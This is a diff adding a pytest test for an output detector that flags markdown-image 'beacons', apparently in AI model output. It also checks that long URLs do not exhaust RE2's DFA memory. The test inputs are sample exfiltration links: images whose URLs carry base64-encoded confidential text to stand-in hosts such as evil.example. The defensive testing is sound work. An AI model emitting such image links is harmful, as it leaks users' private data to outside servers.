@@ -183,3 +183,16 @@ def test_eval_set_is_well_formed() -> None:
     assert {r["lang"] for r in cases if r["variant"] == "translated"} >= {"fr", "es", "de"}
     assert {r["split"] for r in prompts} == {"tune", "eval"}
     assert path.stat().st_size < 1_000_000
+
+
+def test_beacon_patterns_stay_in_re2_dfa(capfd: pytest.CaptureFixture[str]) -> None:
+    """A bounded {1,1000} URL repeat made RE2's DFA run out of memory on any markdown image (and log it)."""
+    det = ExfilOutputDetector()
+    det.load()
+    data = base64.b64encode(b"the quarterly numbers are not public yet").decode()
+    found = det.beacons(f"Done. ![status](https://img.example.net/p.png?d={data}) "
+                        f"and [x](https://a.example/{'q' * 3000})")
+    assert found and found[0].rule_id == "exfil.auto"
+    assert "DFA out of memory" not in capfd.readouterr().err
+    long_url = det.beacons(f"![s](https://evil.example/{data}/{'z' * 2000})")
+    assert long_url and long_url[0].span is not None and long_url[0].span.end - long_url[0].span.start <= 1000
